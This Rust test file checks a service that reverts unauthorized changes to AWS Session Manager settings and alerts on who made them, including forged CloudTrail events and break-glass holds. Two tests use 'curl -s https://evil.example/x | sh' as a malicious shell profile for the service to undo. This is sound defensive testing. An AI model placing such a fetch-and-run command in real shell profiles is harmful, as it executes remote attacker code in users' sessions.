//! Edits: undone or kept, field by field, and alerted with who did what and what was done about it.

use runas_reactor::config;
use runas_reactor::domain::signal::Cause;
use serde_json::{Value, json};

use super::callers::{LOG_GROUP, lza_inputs};
use super::queue::{ReceivedAlert, kinds, work};
use super::stage::{FRANKFURT, HOME, PAYMENTS, SEARCH, Stage};
use crate::support::lambda::Lambda;

const NEW_LOG_GROUP: &str = "AWSAccelerator-sessions-2027";

/// A target that LZA has set up and the reactor has put right.
fn governed(account: &str, region: &str) -> (Stage, Lambda) {
    let stage = Stage::set();
    let lambda = stage.lambda();
    govern(&stage, &lambda, account, region);
    (stage, lambda)
}

fn govern(stage: &Stage, lambda: &Lambda, account: &str, region: &str) {
    stage.pipeline(account).creates(region, &lza_inputs());
    stage.prepare(lambda, &[(account, region)]);
    stage.assert_right(account, region);
    assert_eq!(stage.document(account, region).latest(), 2, "the reactor's on top of LZA's");
}

fn only(stage: &Stage) -> ReceivedAlert {
    let alerts = stage.alerts();
    let [only] = &alerts[..] else { panic!("one alert, and not {alerts:#?}") };
    only.clone()
}

#[test]
fn administrators_edit_is_reverted_and_alerted_with_who_what_and_what_was_done() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    let alice = stage.administrator(PAYMENTS, "alice@example.com");
    let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
    let edit = json!({"runAsEnabled": false, "idleSessionTimeout": null, "shellProfile": profile});
    assert_eq!(alice.edits(HOME, &edit), 3);
    stage.deliver(&stage.events());
    assert_eq!(stage.pump(&lambda), 0);
    stage.assert_right(PAYMENTS, HOME);
    let own = stage.events();
    assert_eq!(own.len(), 2, "one version, made the default");
    stage.deliver(&own);
    stage.settle(&lambda);

    stage.assert_right(PAYMENTS, HOME);
    let document = stage.document(PAYMENTS, HOME);
    assert_eq!((document.default(), document.latest()), (4, 4));
    assert_eq!(document.inputs()["cloudWatchLogGroupName"], LOG_GROUP, "not owned, and kept");
    assert_eq!(document.inputs()["shellProfile"], Value::Null, "not owned, and taken out again");

    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
    assert_eq!(alerts.subject, "Reverted: Admin (alice@example.com) wrote version 3 in payments/eu-west-1");
    alerts.assert_says(&[
        "payments (333344445555)",
        "Admin (alice@example.com) wrote version 3 at ",
        "(not trusted)",
        &alice.role,
        "runAsEnabled        true -> false",
        "idleSessionTimeout  \"15\" -> (none)",
        "shellProfile        (none) -> {\"linux\":\"curl",
        "It is right again: the reactor wrote version 4.",
        ", sessions could run as the wrong user.",
    ]);
    for (name, expected) in [("severity", "high"), ("kind", "edit_reverted"), ("account", PAYMENTS), ("region", HOME)] {
        assert_eq!(alerts.attributes[name]["Value"], expected, "subscriptions filter by {name}");
    }
    let data = &alerts.body["data"];
    assert_eq!(
        (&alerts.body["schema_version"], &data["done"], &data["count"]),
        (&json!(1), &json!("reverted"), &json!(1))
    );
    assert_eq!(data["edits"][0]["principal"]["arn"], json!(alice.role));
    assert_eq!(data["edits"][0]["principal"]["name"], "alice@example.com");
    let changed: Vec<&Value> = data["edits"][0]["changed"].as_array().unwrap().iter().map(|c| &c["field"]).collect();
    assert_eq!(changed, ["idleSessionTimeout", "runAsEnabled", "shellProfile"]);
}

#[test]
fn foreign_share_is_taken_out_of_the_document_and_the_pipelines_stays() {
    let stage = Stage::set();
    stage.put_policy(&stage.yaml.replace("\nbreaker:", "\nsharing: undo\nbreaker:"), None);
    let lambda = stage.lambda_with(&[(config::POLICY, "table")]);
    govern(&stage, &lambda, PAYMENTS, HOME);
    let (pipeline, alice) = (stage.pipeline(PAYMENTS), stage.administrator(PAYMENTS, "alice@example.com"));
    pipeline.shares(HOME, &["999900002222"]);
    alice.shares(HOME, &["999900001111"]);
    assert_eq!(alice.shared_with(HOME).len(), 2);
    stage.deliver(&stage.events());
    stage.settle(&lambda);

    assert_eq!(alice.shared_with(HOME), ["999900002222"]);
    stage.assert_right(PAYMENTS, HOME);
    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
    alerts.assert_says(&[
        "Admin (alice@example.com)",
        "the document was shared with 999900001111",
        "Its sharing is undone: the reactor took 999900001111 out again.",
    ]);
}

#[test]
fn an_edit_that_leaves_the_default_version_alone_is_undone_as_well() {
    let (stage, lambda) = governed(SEARCH, HOME);
    let alice = stage.administrator(SEARCH, "alice@example.com");
    alice.writes(HOME, &json!({"runAsDefaultUser": "root2"}));
    stage.settle(&lambda);
    stage.assert_right(SEARCH, HOME);
    only(&stage).assert_says(&["alice@example.com", "runAsDefaultUser  \"prodops\" -> \"root2\""]);
}

#[test]
fn a_rolled_back_default_version_is_put_forward_again_without_a_new_version() {
    let (stage, lambda) = governed(PAYMENTS, FRANKFURT);
    let mallory = stage.administrator(PAYMENTS, "mallory@example.com");
    mallory.promotes(FRANKFURT, 1);
    stage.settle(&lambda);
    stage.assert_right(PAYMENTS, FRANKFURT);
    assert_eq!(stage.document(PAYMENTS, FRANKFURT).latest(), 2);
    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
    alerts.assert_says(&[
        "mallory@example.com",
        "made version 1 the default",
        "the reactor made version 2 the default",
    ]);
}

#[test]
fn a_deleted_document_comes_back_with_the_fields_of_others() {
    let (stage, lambda) = governed(SEARCH, FRANKFURT);
    stage.administrator(SEARCH, "mallory@example.com").deletes(FRANKFURT);
    assert!(stage.find(SEARCH, FRANKFURT).is_none());
    stage.settle(&lambda);
    stage.assert_right(SEARCH, FRANKFURT);
    assert_eq!(stage.document(SEARCH, FRANKFURT).inputs()["cloudWatchLogGroupName"], LOG_GROUP, "from memory");
    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
    alerts.assert_says(&["mallory@example.com", "deleted the document", "the reactor created the document anew"]);
}

#[test]
fn pipelines_change_of_unowned_fields_is_kept_without_a_page() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    // LZA carries over what the default version says, drops what it does not know, and leaves the default where it is.
    let edit = json!({"cloudWatchLogGroupName": NEW_LOG_GROUP, "idleSessionTimeout": null});
    stage.pipeline(PAYMENTS).writes(HOME, &edit);
    stage.settle(&lambda);
    stage.assert_right(PAYMENTS, HOME);
    let document = stage.document(PAYMENTS, HOME);
    assert_eq!(document.inputs()["cloudWatchLogGroupName"], NEW_LOG_GROUP);
    let alerts = only(&stage);
    assert_eq!(alerts.severity(), "info");
    alerts.assert_says(&["trusted", "AWSAccelerator-", NEW_LOG_GROUP]);
    assert_eq!(stage.rows_of(PAYMENTS, "INCIDENT#").len(), 0);
}

#[test]
fn a_session_that_is_called_like_the_pipeline_is_not_the_pipeline() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    let mallory = stage.administrator(PAYMENTS, "AWSAccelerator-SessionManagerSettings");
    mallory.edits(HOME, &json!({"cloudWatchLogGroupName": "mallorys-logs"}));
    stage.settle(&lambda);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["cloudWatchLogGroupName"], LOG_GROUP);
    assert_eq!(only(&stage).severity(), "high");
}

/// Mallory sends sessions to a bucket of her own; right after, the pipeline reads, changes the log group, and writes the
/// bucket back along with it. The two events come to the function in these batches.
fn hostile_before_trusted(batches: &[&[usize]]) -> Vec<ReceivedAlert> {
    let (stage, lambda) = governed(SEARCH, HOME);
    let mallory = stage.administrator(SEARCH, "mallory@example.com");
    mallory.writes(HOME, &json!({"s3BucketName": "mallorys-bucket", "runAsEnabled": false}));
    stage.pipeline(SEARCH).writes(HOME, &json!({"cloudWatchLogGroupName": NEW_LOG_GROUP}));
    let events = stage.events();
    assert_eq!(events.len(), 2);
    for batch in batches {
        stage.deliver(&batch.iter().map(|at| events[*at].clone()).collect::<Vec<_>>());
        assert_eq!(stage.pump(&lambda), 0);
    }
    stage.settle(&lambda);
    stage.assert_right(SEARCH, HOME);
    let inputs = stage.document(SEARCH, HOME).inputs();
    assert_eq!(inputs["s3BucketName"], "", "not laundered");
    assert_eq!(inputs["cloudWatchLogGroupName"], NEW_LOG_GROUP, "the pipeline's own change is kept");
    let alerts = stage.alerts();
    let text: String = alerts.iter().map(ReceivedAlert::text).collect();
    assert!(
        text.contains("mallory@example.com") && text.contains("s3BucketName  \"\" -> \"mallorys-bucket\""),
        "{text}"
    );
    assert!(alerts.iter().any(|alerts| alerts.severity() == "high"), "{alerts:#?}");
    alerts
}

#[test]
fn hostile_edit_is_not_accepted_where_its_event_comes_last() {
    let alerts = hostile_before_trusted(&[&[1], &[0]]);
    assert_eq!(kinds(&alerts), ["edit_reverted"], "one story, one alert");
}

/// The reactor cannot know whether the pipeline means the value that a foreign principal set first.
#[test]
fn a_value_that_a_foreign_principal_set_first_is_accepted_by_an_operator() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    let bucket = json!({"s3BucketName": "session-logs"});
    stage.administrator(PAYMENTS, "mallory@example.com").writes(HOME, &bucket);
    stage.settle(&lambda);
    let both = json!({"s3BucketName": "session-logs", "cloudWatchStreamingEnabled": false});
    let version = stage.pipeline(PAYMENTS).writes(HOME, &both);
    stage.settle(&lambda);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["s3BucketName"], "", "notified, and not taken over");
    stage.alerts();

    stage.push_policy();
    let (place, version) = (format!("{PAYMENTS}/{HOME}"), version.to_string());
    let accept = |version: &str| {
        let reason = ["--reason", "LOG-12: the bucket of the log archive", "--yes"];
        stage.runasctl(&[], &[&["accept", &place, "--version", version], &reason[..]].concat())
    };
    let unasked = stage.runasctl(&[], &["accept", &place, "--version", &version, "--reason", "LOG-12"]);
    unasked.ends(64).complains_of(&["no terminal to ask at", "--yes"]);
    accept("99").ends(1).complains_of(&["no version 99", "fix: name one of"]);
    accept(&version).ends(0).complains_of(&["s3BucketName: \"\" -> \"session-logs\""]);
    stage.assert_right(PAYMENTS, HOME);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["s3BucketName"], "session-logs");
    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_kept", "info"));
    alerts.assert_says(&["accepted what version", "LOG-12", "s3BucketName"]);
    let history = stage.runasctl(&[], &["history", &place]).ends(0);
    assert!(history.out.contains(&format!("what version {version} holds is accepted")), "{history:#?}");
    accept(&version).ends(1).complains_of(&["nothing that is not accepted already"]);

    stage.settle(&lambda);
    stage.pipeline(PAYMENTS).writes(HOME, &json!({"s3KeyPrefix": "sessions"}));
    stage.settle(&lambda);
    let inputs = stage.document(PAYMENTS, HOME).inputs();
    assert_eq!((&inputs["s3BucketName"], &inputs["s3KeyPrefix"]), (&json!("session-logs"), &json!("sessions")));
}

/// Its author keeps the true event from the hub, and sends one that names the pipeline.
#[test]
fn an_event_that_cloudtrail_does_not_know_makes_nothing_accepted_for_good() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
    let pipelines = stage.pipeline(PAYMENTS);
    pipelines.writes(HOME, &json!({"cloudWatchStreamingEnabled": false}));
    let [genuine] = &stage.events()[..] else { panic!("one event") };
    stage.deliver(std::slice::from_ref(genuine));
    stage.settle(&lambda);
    stage.administrator(PAYMENTS, "mallory@example.com").writes(HOME, &json!({"shellProfile": profile}));
    let [mut forged] = <[Value; 1]>::try_from(stage.events()).expect("one event");
    forged["detail"]["userIdentity"] = genuine["detail"]["userIdentity"].clone();
    forged["detail"]["eventID"] = "5c4e7a90-0000-4000-8000-f0f0f0f0f0f0".into();
    stage.deliver(&[forged]);
    stage.settle(&lambda);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["shellProfile"], profile, "taken over at first");
    assert_eq!(only(&stage).kind(), "edit_kept");

    stage.pass(31 * 60);
    stage.deliver(&[work(PAYMENTS, HOME, Cause::Sweep)]);
    stage.settle(&lambda);
    stage.assert_right(PAYMENTS, HOME);
    let inputs = stage.document(PAYMENTS, HOME).inputs();
    assert_eq!(inputs["shellProfile"], Value::Null);
    assert_eq!(inputs["cloudWatchStreamingEnabled"], false, "what CloudTrail knows of stays");
    let alerts = stage.alerts();
    let made_up = alerts.iter().find(|alerts| alerts.kind() == "untrusted_source").expect("an alert about the event");
    assert_eq!(made_up.severity(), "critical");
    made_up.assert_says(&["5c4e7a90-0000-4000-8000-f0f0f0f0f0f0", "eu-west-1", "wrote version"]);
}

#[test]
fn a_pipelines_change_of_what_runs_code_is_confirmed_by_cloudtrail_once() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    stage.pipeline(PAYMENTS).writes(HOME, &json!({"cloudWatchLogGroupName": NEW_LOG_GROUP}));
    stage.settle(&lambda);
    stage.aws.clear_log();
    for _ in 0..3 {
        stage.pass(10 * 60);
        stage.deliver(&[work(PAYMENTS, HOME, Cause::Sweep)]);
        stage.settle(&lambda);
    }
    stage.assert_right(PAYMENTS, HOME);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["cloudWatchLogGroupName"], NEW_LOG_GROUP);
    assert_eq!(stage.calls("cloudtrail").len(), 2, "once for this call, and once for the creation");
    assert_eq!(kinds(&stage.alerts()), ["edit_kept"]);
}

/// Together more than a row of the table can hold.
#[test]
fn large_edits_in_a_row_are_undone_like_small_ones() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    let mallory = stage.administrator(PAYMENTS, "mallory@example.com");
    for n in 0..7 {
        let profile = json!({"linux": format!("{n}{}", "x".repeat(55_000)), "windows": ""});
        mallory.edits(HOME, &json!({"runAsEnabled": false, "shellProfile": profile}));
    }
    stage.settle(&lambda);
    stage.assert_right(PAYMENTS, HOME);
    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["shellProfile"], Value::Null);
    let alerts = stage.alerts();
    assert!(alerts.iter().any(|alerts| alerts.kind() == "edit_reverted"), "{:?}", kinds(&alerts));
}

#[test]
fn break_glass_edit_stands_for_the_hold_and_is_alerted_at_once() {
    let (stage, lambda) = governed(PAYMENTS, HOME);
    stage.break_glass(PAYMENTS, "carol@example.com").edits(HOME, &json!({"runAsEnabled": false}));
    stage.settle(&lambda);
    let document = stage.document(PAYMENTS, HOME);
    assert_eq!((document.latest(), &document.inputs()["runAsEnabled"]), (3, &json!(false)), "left alone");
    let alerts = only(&stage);
    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("break_glass", "high"));
    alerts.assert_says(&["carol@example.com", "break-glass", "left as it is until"]);
    assert_eq!(stage.queued(), [0, 1, 0], "looked at again when the hold ends");
    assert_eq!(stage.rows_of(PAYMENTS, "REGION#")["REGION#eu-west-1"]["attention"], "held");
}
